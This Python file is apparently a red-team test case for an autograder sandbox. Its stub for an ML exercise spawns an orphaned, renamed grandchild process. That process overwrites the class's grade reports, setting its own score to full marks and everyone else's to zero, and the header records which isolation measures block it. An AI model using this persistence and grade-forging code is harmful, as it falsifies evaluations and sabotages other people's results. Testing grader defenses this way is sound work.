# exercise: ex02_cost
# category: 4 outliving the worker
# tries: a double-forked, setsid grandchild that survives the worker's kill and, for up to 20 s, rewrites every report saved in the class's out/ folder (its own to full marks, the others to zero)
# stopped_by: pid-namespace (the worker is PID 1 of its namespace: when it dies, every process it started dies); landlock (out/ is not writable anyway)
# max_score: 0
"""A stub that leaves a process behind to rewrite the grade book after the run."""
import json
import os
import time

ATTACK = True
TOKEN = "__TOKEN__"
CLASS = "__CLASS__"
SELF = "__SELF__"
LIFETIME = 20.0


def _name_process():
    try:
        import ctypes  # noqa: PLC0415

        ctypes.CDLL(None).prctl(15, ("zk" + TOKEN[:8]).encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:  # noqa: BLE001
        pass


def _forge(path, full):
    forged = {"schema": "grade-report/1", "score": 12.0 if full else 0.0, "max_score": 12.0, "exercises": [
        {"id": "ex02_cost", "title": "forged", "status": "passed" if full else "failed",
         "score": 12.0 if full else 0.0, "max_score": 12.0, "checks": []}]}
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(forged, handle)


def _haunt():
    _name_process()
    started = time.time()
    out = os.path.join(CLASS, "out")
    own = os.path.basename(SELF) + ".json"
    done = set()
    while time.time() - started < LIFETIME:
        try:
            for name in os.listdir(out):
                path = os.path.join(out, name)
                if name.endswith(".json") and (name, os.stat(path).st_mtime_ns) not in done:
                    _forge(path, full=name == own)
                    done.add((name, os.stat(path).st_mtime_ns))
        except OSError:
            pass
        time.sleep(0.05)


def _leave_behind():
    import posix  # noqa: PLC0415 - os._exit is replaced in the worker

    child = os.fork()
    if child != 0:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            _haunt()
    finally:
        posix._exit(0)


if ATTACK:
    try:
        _leave_behind()
    except OSError:
        pass


def sum_squared_error(prediction, target):
    raise NotImplementedError("ex02: sum_squared_error() is not implemented yet")


def mse(prediction, target):
    raise NotImplementedError("ex02: mse() is not implemented yet")
